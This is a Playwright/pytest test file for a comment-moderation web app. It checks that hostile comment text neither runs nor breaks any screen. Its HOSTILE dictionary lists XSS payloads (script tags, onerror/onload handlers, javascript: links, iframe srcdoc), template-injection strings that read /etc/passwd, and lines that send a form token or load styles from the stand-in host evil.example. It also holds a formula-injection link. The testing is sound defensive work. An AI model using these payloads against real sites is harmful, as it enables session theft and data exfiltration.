"""Comments that attack the screens they are shown on: nothing in them runs, and no screen breaks."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from modbot import cases
from modbot.rulings import Choice, Ruling
from modbot.tables import Case
from tests.modbot.scene import said
from tests.web.member import cookie, session
from tests.web.shift import Shift, shift, until

RUNS = "window.ran=(window.ran||0)+1"
HOSTILE = {
    "script": f"<script>{RUNS}</script>",
    "script that ends another": f"</script><script>{RUNS}</script><!--",
    "svg": f"<svg/onload={RUNS}><animate onbegin={RUNS} attributeName=x dur=1s>",
    "image": f'"><img src=x onerror="{RUNS}">',
    "attribute": f"' onmouseover='{RUNS}' autofocus onfocus={RUNS} x='",
    "htmx": f'<div hx-get="/account" hx-trigger="load" hx-on:htmx:load="{RUNS}">here</div>',
    "template": "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %> %(name)s",
    "link": f'<a href="javascript:{RUNS}">javascript:{RUNS}</a>',
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "frame": f"<iframe srcdoc='<script>parent.{RUNS}</script>'></iframe><base href=//evil.example>",
    "form": "<form action=//evil.example><input name=_token><button>Leave up</button></form>",
    "bidi overrides": "\u202e\u2066evas ot ereh kcilc\u2069\u202c \u200fabc\u200e",
    "zero width": "h\u200bu\u200cr\u2060t\ufeff y\u00ado\u034fu",
    "null bytes": "a\x00b\x1b[31mc\x07\x08\x7f\x9bd\ud800",
    "right to left": "هذا تعليق طويل جدا عن الحافلة الصفراء " * 8 + "שלום לכולם",
    "emoji storm": "👩‍👩‍👧‍👦🏳️‍🌈👍🏿" * 200,
    "marks on marks": "Z" + "\u0301\u0336\u0353" * 400,
    "one long word": "A" * 3_000,
    "50,000 characters": "buy now and tell everybody about it " * 1_389,
    "lines": "line\r\n" * 400,
    "WordPress": "<p>Hi <strong>all</strong>,<br />\n&lt;3 &amp; &#8217; <!-- wp:paragraph -->[gallery]",
    "formula": '=HYPERLINK("http://evil.example";"x")|cmd',
}
WIDTHS = (1280, 360)
SCREENS = ("/queue", "/decided", "/search?text=buy", "/audit", "/health", "/practice")


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory, migrated_file: Path) -> Iterator[Shift]:
    """Each attack as a comment's text, its author's name, its post's title and, once decided, a reason."""
    with shift(tmp_path_factory.mktemp("hostile"), migrated_file) as running:
        here = running.here
        here.arrive(
            *(
                said(f"<b>{n}", f"{text} buy now {n}", author=text[:300], post_title=text[:300])
                for n, text in enumerate(HOSTILE.values())
            )
        )
        running.says(f"buy now <script>{RUNS}</script>", author=f"<img src=x onerror={RUNS}>")
        until(lambda: len(here.rows(Case)) > len(HOSTILE) - 3)
        _decide_some(running)
        yield running


def _decide_some(desk: Shift) -> None:
    for n, row in enumerate(desk.here.rows(Case)):
        if n % 3 == 0:
            text = list(HOSTILE.values())[n % len(HOSTILE)][:2_000]
            cases.decide(
                desk.store,
                desk.here.rules,
                row.id,
                Ruling(
                    choice=Choice.HIDE,
                    by="ana",
                    clause="C7",
                    quote="buy now",
                    reason=text,
                    version=row.version,
                ),
            )


@pytest.fixture(scope="module")
def seen(browser: Browser, desk: Shift) -> Iterator[tuple[list[str], list[str]]]:
    """Every screen looked at once, everything opened, wide and narrow: what is wrong, and the texts."""
    context = browser.new_context()
    context.add_cookies([cookie(session(desk.store, "lee"), desk.address)])
    page = context.new_page()
    troubles: list[str] = []
    texts: list[str] = []
    page.on("dialog", lambda dialog: (troubles.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: troubles.append(str(error)))
    page.on("request", lambda sent: None if sent.url.startswith(desk.address) else troubles.append(sent.url))
    for path in [*SCREENS, *(f"/case/{row.id}" for row in desk.here.rows(Case))]:
        page.set_viewport_size({"width": WIDTHS[0], "height": 900})
        page.goto(desk.address + path)
        found, text = page.evaluate(LOOK)
        troubles += [f"{path}: {each}" for each in found]
        texts += [text] if path.startswith("/case/") else []
        for width in WIDTHS:
            page.set_viewport_size({"width": width, "height": 900})
            wide = page.evaluate("document.documentElement.scrollWidth")
            troubles += [f"{path} is {wide} wide at {width}"] if wide > width else []
    yield troubles, texts
    context.close()


LOOK = """() => {
  for (const each of document.querySelectorAll('details')) each.open = true;
  const foreign = 'img, iframe, svg, style, base, object, embed, main script, [onerror], [onload], ' +
    '[onfocus], [onmouseover], a[href^="javascript:"]';
  const found = [...document.querySelectorAll(foreign)].map(each => each.outerHTML.slice(0, 200));
  return [window.ran ? ['a script ran', ...found] : found,
          document.getElementById('comment-text')?.textContent ?? ''];
}"""


def test_no_comment_runs_or_breaks_any_screen(seen: tuple[list[str], list[str]]) -> None:
    assert seen[0] == []


def test_what_cannot_be_seen_is_spelled_out_and_the_rest_is_left_as_it_is(
    seen: tuple[list[str], list[str]],
) -> None:
    texts = seen[1]
    for wanted in (
        "h\\u200bu\\u200cr\\u2060t\\ufeff y\\xado",
        "a\\x00b\\x1b[31mc",
        HOSTILE["emoji storm"],
        HOSTILE["right to left"],
        HOSTILE["script"],
        HOSTILE["WordPress"],
        "line\nline\n",
    ):
        assert any(wanted in text for text in texts), wanted
    assert max(map(len, texts)) > 50_000
